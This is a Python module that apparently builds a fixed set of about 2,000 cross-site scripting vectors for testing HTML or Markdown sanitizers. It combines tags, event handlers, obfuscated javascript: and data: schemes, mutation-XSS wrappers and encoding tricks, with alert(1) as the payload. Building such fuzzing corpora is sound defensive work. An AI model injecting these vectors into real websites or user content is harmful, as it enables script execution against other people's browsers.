"""Two thousand ways to smuggle a script into a text: tags × attributes × spellings × Markdown."""

from __future__ import annotations

import random

TAGS = (
    "script", "img", "svg", "iframe", "math", "body", "input", "video", "audio", "object", "embed",
    "form", "details", "marquee", "a", "style", "link", "base", "meta", "template", "noscript",
    "textarea", "title", "select", "table", "isindex", "frameset", "p", "blockquote", "x-y",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onstart", "onbegin",
    "onanimationstart", "onpointerenter", "onbeforeinput", "onpageshow", "ONERROR", "oNlOaD",
)  # fmt: skip
CALL = "alert(1)"
SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&#x3A;alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)", "javascript:%61lert(1)", "//evil.invalid/x", "https:javascript:alert(1)",
    " javascript:alert(1)", "feed:javascript:alert(1)", "view-source:javascript:alert(1)",
    "jav&#x09;ascript:alert(1)", "java\0script:alert(1)", "\u2028javascript:alert(1)",
    "javascript\u200b:alert(1)", "ｊavascript:alert(1)", "blob:https://evil.invalid/1",
)  # fmt: skip
ATTRIBUTES = (
    "src",
    "href",
    "xlink:href",
    "action",
    "formaction",
    "data",
    "srcdoc",
    "poster",
    "background",
)
MARKDOWN = (
    "[x]({u})", "![x]({u})", "<{u}>", "[x]: {u}\n\n[x]", "[x](<{u}>)", '[x]({u} "t")', "![x][y]\n\n[y]: {u}",
    "[x](/ok '\"onmouseover={c}')", "> [x]({u})", "* ![x]({u})", "`{t}`", "```\n{t}\n```", "    {t}", "# {t}",
    "| a |\n|---|\n| {t} |", "**{t}**", "~~{t}~~", "{t}", "[{t}](/x)", "![{t}](/files/1)", "[x]({u}){t}",
    "@Анна {t}", "&lt;{t}", "<!--{t}-->", "<![CDATA[{t}]]>", "<{t}", "{t}\n{t}", "http://a.ru/{t}",
    'https://a.ru/"onmouseover={c}', "http://a.ru/?q=<{t}", "mailto:a@b.ru?{t}", "<?{t}?>", "{{{{{t}}}}}",
)  # fmt: skip
WRAPS = (
    "<svg><{0}</svg>",
    "<math><mtext><table><mglyph><style><!--</style>{0}",
    '<noscript><p title="</noscript>{0}">',
    "<template>{0}</template>",
    "<textarea></textarea>{0}",
    "<select><{0}</select>",
    "<form><math><mtext></form>{0}",
    "<a title='{0}'>",
    "<p/{0}",
    "<b><b {0}",
    '<svg></p><style><a id="</style>{0}">',
    '<title><a title="</title>{0}">',
)


def _tag(chance: random.Random) -> str:
    tag, event = chance.choice(TAGS), chance.choice(EVENTS)
    quote = chance.choice(("", "'", '"', "`"))
    gap = chance.choice((" ", "/", "\t", "\n", "\x0c", " x "))
    attribute, url = chance.choice(ATTRIBUTES), chance.choice(SCHEMES)
    made = chance.choice((
        f"<{tag}{gap}{event}={quote}{CALL}{quote}>",
        f"<{tag}{gap}{attribute}={quote}{url}{quote}>",
        f"<{tag}{gap}{attribute}=x {event}={quote}{CALL}{quote}>x</{tag}>",
        f"<{tag}>{CALL}</{tag}>",
        f'<{tag} style="background:url({url})" {event}={CALL} autofocus tabindex=1>',
        f"<{tag}{gap}{event}\n=\n{CALL}//",
        f"<{tag.upper()} {attribute}='{url}' {event}='{CALL}'",
    ))  # fmt: skip
    return chance.choice(WRAPS).format(made) if chance.random() < 0.35 else made


def _spelled(text: str, chance: random.Random) -> str:
    """The same vector as it may come: escaped, doubled, broken in the middle."""
    swaps = (
        (("<", "&lt;"), (">", "&gt;")), (("<", "&#60;"), ("(", "&#40;")), (("<", "<<"),),
        (("<", "\uff1c"), (">", "\uff1e")), (("<", "\\<"),),
    )  # fmt: skip
    way = chance.randrange(12)
    if way < len(swaps):
        for old, new in swaps[way]:
            text = text.replace(old, new)
    elif way == len(swaps):
        at = chance.randrange(len(text))
        junk = chance.choice(("\0", "\u200b", "\\", "\n", "\ufeff", "]]>", "-->"))
        text = text[:at] + junk + text[at:]
    return text


def vectors(count: int = 2_000, seed: int = 1954) -> list[str]:
    """So many different vectors, the same ones every time."""
    chance = random.Random(seed)
    found: dict[str, None] = {}
    while len(found) < count:
        form = chance.choice(MARKDOWN)
        text = form.format(u=chance.choice(SCHEMES), t=_tag(chance), c=CALL)
        found[_spelled(text, chance)] = None
    return list(found)
